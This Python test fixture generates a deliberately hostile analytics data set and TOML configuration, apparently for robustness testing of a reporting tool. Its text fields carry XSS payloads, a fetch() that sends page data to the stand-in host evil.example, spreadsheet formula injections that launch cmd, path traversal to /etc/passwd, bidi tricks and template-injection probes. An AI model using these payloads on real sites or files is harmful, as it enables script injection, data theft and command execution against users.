"""A data set whose every text field tries to run, to break out, to typeset or to hide."""

from __future__ import annotations

import csv
import io
import itertools
import json
import random
from datetime import datetime, timedelta

DEED = "window.owned=1;alert(1);fetch('https://evil.example/'+document.title)"

# ROBUSTNESS.md, row 19.
ROW_19 = (
    f"<script>{DEED}</script>",
    "</script><b>out</b>",
    '=HYPERLINK("https://evil.example/","open me")',
    "../../../../etc/passwd",
    "before\u202eretfa\u202c \u2067after\u2069",
    "$x^2$ and $\\frac{1}{0}$ and \\(y\\)",
    "{{ 7 * 7 }} {% raw %} ${7*7} <%= 7*7 %>",
    "\"quoted\" 'single' `ticks` & &amp; &#60;",
)
INJECTIONS = (
    f'<img src=x onerror="{DEED}">',
    f"<svg onload={DEED}><animate onbegin={DEED} attributeName=x></svg>",
    f'"><iframe srcdoc="<script>{DEED}</script>"></iframe>',
    f"' onmouseover='{DEED}' autofocus onfocus='{DEED}'",
    "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
    '<link rel=stylesheet href="https://evil.example/c.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "--></title></textarea></noscript></template></details></table><script>alert(2)</script>",
    "]]></svg><foreignObject><body onload=alert(3)></foreignObject>",
    f"[click](javascript:{DEED}) ![see](https://evil.example/d.png) <https://evil.example/e>",
    '<form action="https://evil.example/"><input formaction="javascript:alert(4)" type=image src=x></form>',
    "<math><mtext><mglyph><style><img src=x onerror=alert(5)></style></mglyph></mtext></math>",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(6)>]\n```",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "\ufeff-2+3+cmd|' /C calc'!A0",
)
STRINGS = (*ROW_19, *INJECTIONS)
# Nothing of these shall be cut, since the reader must see that it is text.
COUNTRIES = (ROW_19[0][:180], INJECTIONS[0][:180], ROW_19[2], ROW_19[5])
ARMS = (INJECTIONS[1], "$control$ {{ 7 * 7 }} <b>x</b>")
TITLE, OWNER, CONTACT = ROW_19[0], INJECTIONS[2], INJECTIONS[9]
FILE = "orders =HYPERLINK(1) <img src=x onerror=alert(7)> $x$ {{7}}.csv"

TEXTS = (
    "country", "product_id", "product_category", "page_path", "page_category", "referrer_domain", "campaign_name",
    "device_type", "os", "browser", "locale", "coupon", "campaign_id", "topic", "format", "offer_type", "link_id",
    "ticket_id", "support_category", "support_outcome",
)  # fmt: skip
COLUMNS = ("kind", "at", "customer", "email", "order_id", "revenue", "arm", *TEXTS)


def settings() -> str:
    """The dataset.toml; JSON strings are TOML strings."""
    mapped = "\n".join(f"{name} = {json.dumps(name)}" for name in TEXTS)
    emit = """
[[source.emit]]
when = "kind = '{kind}'"
event = "{event}"
timestamp = "at"
user_id = "customer"
external_ids = {{ email = "email" }}
{more}
{mapped}
properties = {{ note = "topic" }}
"""
    orders = emit.format(
        kind="order", event="Order Completed", more='order_id = "order_id"\nrevenue = "revenue"', mapped=mapped
    )
    exposures = emit.format(
        kind="arm", event="Experiment Viewed", more='experiment_id = "\'trial\'"\nvariation_id = "arm"', mapped=mapped
    )
    tickets = emit.format(kind="ticket", event="Support Ticket Opened", more="", mapped=mapped)
    views = emit.format(kind="view", event="Page Viewed", more="", mapped=mapped)
    return f"""
name = "hostile"
title = {json.dumps(TITLE)}
currency = "EUR"
timezone = "Europe/Berlin"
history_ends = 2025-12-31
[report]
owner = {json.dumps(OWNER)}
contact = {json.dumps(CONTACT)}
[consent]
basis = "contract"
reason = {json.dumps(INJECTIONS[0])}
[[source]]
name = "shop"
files = ["orders*.csv"]
format = "delimited"
columns = {json.dumps(COLUMNS)}
max_bad_share = 0.5
[[source.reject]]
reason = "of_no_kind"
when = "kind NOT IN ('order', 'arm', 'ticket', 'view', 'attribute', 'product')"
{orders}{exposures}{tickets}{views}
[[source.emit]]
kind = "attribute"
when = "kind = 'attribute'"
user_id = "customer"
timestamp = "at"
values = {{ plan = "topic", city = "country" }}
[[source.emit]]
kind = "product"
when = "kind = 'product'"
product_id = "product_id"
product_category = "product_category"
[[experiment]]
name = "trial"
control = {json.dumps(ARMS[1])}
arms = {json.dumps(ARMS)}
window_days = 14
planned_end = 2025-11-15
[[experiment.rule]]
name = {json.dumps(ARMS[0])}
feature = "acts_90d"
[[experiment.metric]]
name = "conversion"
kind = "conversion"
event = "Order Completed"
[[experiment.metric]]
name = "spend"
kind = "revenue"
"""


def records(*, customers: int = 900, seed: int = 1) -> str:
    """The file: two years of orders, an experiment, tickets and page views, with hostile text wherever text may be."""
    rng = random.Random(seed)
    strings = itertools.cycle(STRINGS)
    file = io.StringIO()
    writer = csv.writer(file, lineterminator="\n")
    writer.writerow(COLUMNS)
    end, number = datetime(2025, 12, 31), 0

    def write(kind: str, at: datetime, who: int, *, revenue: str = "", arm: str = "", order: str = "") -> None:
        texts = [COUNTRIES[who % len(COUNTRIES)], *(next(strings) for _ in TEXTS[1:])]
        # The customer's own number is hostile too.
        name = f"{who} {STRINGS[who % len(STRINGS)]}"
        mail = (
            f"who{who}+{rng.randrange(9)}@mail.example"
            if who % 3
            else f"<img src=x onerror=alert(8)>{who}@mail.example"
        )
        writer.writerow([kind, f"{at:%Y-%m-%d %H:%M:%S}", name, mail, order, revenue, arm, *texts])

    for who in range(customers):
        leaves = rng.random() < 0.4
        at = end - timedelta(days=rng.randrange(300, 700), seconds=rng.randrange(80_000))
        stop = at + timedelta(days=rng.randrange(60, 300)) if leaves else end
        gap = rng.choice([20, 45, 80])
        while at < stop:
            number += 1
            revenue = f"{rng.randrange(500, 9000) / 100:.2f}"
            write("order", at, who, revenue=revenue, order=f"{STRINGS[number % len(STRINGS)]} {number}")
            at += timedelta(days=1 + rng.expovariate(1 / gap), seconds=rng.randrange(3_000))
        write("arm", end - timedelta(days=60, seconds=who), who, arm=ARMS[who % 2])
        if who % 2:
            write("ticket", end - timedelta(days=50, seconds=who), who)
            write("view", end - timedelta(days=40, seconds=who), who)
            write("attribute", end - timedelta(days=30), who)
    for _ in STRINGS:
        write("product", end, 0)
        write(f"none {next(strings)}", end, 0)
    return file.getvalue() + "order,<script>alert(9)</script>\n" + 'order,"<script>never closed\n'
